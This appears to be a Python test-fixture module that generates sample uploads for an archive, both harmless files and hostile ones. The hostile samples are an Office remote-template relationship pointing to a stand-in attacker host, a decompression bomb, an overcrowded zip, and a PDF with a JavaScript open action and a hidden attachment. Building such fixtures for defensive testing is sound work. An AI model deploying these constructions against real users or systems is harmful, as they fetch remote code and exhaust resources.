"""Files as they reach the archive: good ones of each kind, and the bad ones that somebody will try one day."""

import base64
import io
import zipfile
import zlib
from typing import Any

from PIL import ExifTags, Image

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
POWERPOINT = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


REMOTE_TEMPLATE = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://malo.ejemplo/plantilla.dotm" TargetMode="External"/></Relationships>'
)


def pdf(inside: bytes = b"", *, text: str = "Carta de compromiso") -> bytes:
    """A small PDF of one page; `inside` goes among its objects."""
    return (
        b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R>> endobj\n"
        + b"% "
        + text.encode()
        + b"\n"
        + inside
        + b"\ntrailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )


def hidden_in_object_stream(inside: bytes) -> bytes:
    """The same bytes compressed in an object stream, as writers of PDF 1.5 do."""
    packed = zlib.compress(inside)
    return (
        b"9 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>> stream\n" % len(packed)
        + packed
        + b"\nendstream endobj\n"
    )


def office(main: str = WORD, **entries: bytes | str) -> bytes:
    """A document of Word, Excel or PowerPoint, with further entries by name (`__` is `/`)."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", CONTENT_TYPES.format(main))
        packed.writestr("word/document.xml", "<w:document/>")
        for name, content in entries.items():
            packed.writestr(name.replace("__", "/").replace("_bin", ".bin"), content)
    return kept.getvalue()


def swelling(megabytes: int) -> bytes:
    """A Word document of a few kilobytes that would take that many megabytes once opened."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", CONTENT_TYPES.format(WORD))
        with packed.open("word/media/image1.bmp", "w") as entry:
            for _ in range(megabytes):
                entry.write(bytes(1_000_000))
    return kept.getvalue()


def crowded(entries: int) -> bytes:
    """A Word document with that many parts."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as packed:
        packed.writestr("[Content_Types].xml", CONTENT_TYPES.format(WORD))
        for number in range(entries):
            packed.writestr(f"word/{number}.xml", "")
    return kept.getvalue()


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c626001000000050001"
    "0d0a2db40000000049454e44ae426082"
)
HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAXxtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAACJpbG9jAAAAAERA"
    "AAEAAQAAAAABoAABAAAAAAAAACoAAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABodmMxAAAAAA5waXRtAAAAAAABAAAA/GlwcnAAAADcaXBjbwAA"
    "AHVodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQApQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq"
    "rprm4CGgwIAAAAyAAAADAIRiAAEABkQBwXPBiQAAABNjb2xybmNseAABAA0ABoAAAAAUaXNwZQAAAAAAAABAAAAAQAAAAChjbGFwAAAACAAAAAEAAAAG"
    "AAAAAf///8gAAAAC////xgAAAAIAAAAQcGl4aQAAAAADCAgIAAAAGGlwbWEAAAAAAAAAAQABBYECAwWEAAAAMm1kYXQAAAAmKAGvGSFeQkDvXaW//34+"
    "/1mF/iVbfKZKppcE14iZCwOBgI2RnTg="
)
"""Eight by six points, as a telephone writes them."""
OGG = b"OggS\x00\x02" + bytes(22) + b"\x01\x1eOpusHead\x01\x01" + bytes(100)


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (64, 48), seed: int = 0) -> bytes:
    """A small picture with nothing beside its points; another seed is another picture."""
    kept = io.BytesIO()
    image = Image.new("RGB", size, (200, 40 + seed % 200, 60))
    image.paste((20, 20, 20), (0, 0, size[0] // 2, size[1] // 2))
    image.save(kept, kind)
    return kept.getvalue()


def photograph(*, size: tuple[int, int] = (640, 480), turned: bool = True, seed: int = 0) -> bytes:
    """As a telephone leaves it: lying on its side, with where, when and with what it was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6 if turned else 1
    exif[ExifTags.Base.Make] = "Telefono Secreto"
    exif[ExifTags.Base.DateTime] = "2026:05:05 10:00:00"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (38.0, 44.0, 9.0)
    image = Image.effect_noise(size, 40 + seed).convert("RGB")
    image.paste((255, 0, 0), (0, 0, size[0] // 4, size[1] // 4))
    kept = io.BytesIO()
    image.save(kept, "JPEG", exif=exif, comment=b"nota oculta")
    return kept.getvalue()


JPEG, WEBP = picture(), picture("WEBP")


def pdf_with(**parts: Any) -> bytes:
    """A real PDF, as a program writes it. `action` runs when it opens, `attached` goes inside it, `locked` is the
    password to open it and `limited` the one to change it; `packed` hides its objects in compressed streams."""
    from pikepdf import AttachedFileSpec, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String

    paper = Pdf.new()
    paper.add_blank_page()
    if action := parts.get("action"):
        paper.Root.OpenAction = Dictionary(S=Name(action), JS=String("app.alert(1)"), F=String("x"))
    if attached := parts.get("attached"):
        paper.attachments["otro.txt"] = AttachedFileSpec(paper, attached)
    options: dict[str, Any] = {}
    if parts.get("packed"):
        options["object_stream_mode"] = ObjectStreamMode.generate
    if "locked" in parts or "limited" in parts:
        options["encryption"] = Encryption(user=parts.get("locked", ""), owner=parts.get("limited", "x"), R=6)
    kept = io.BytesIO()
    paper.save(kept, **options)
    return kept.getvalue()
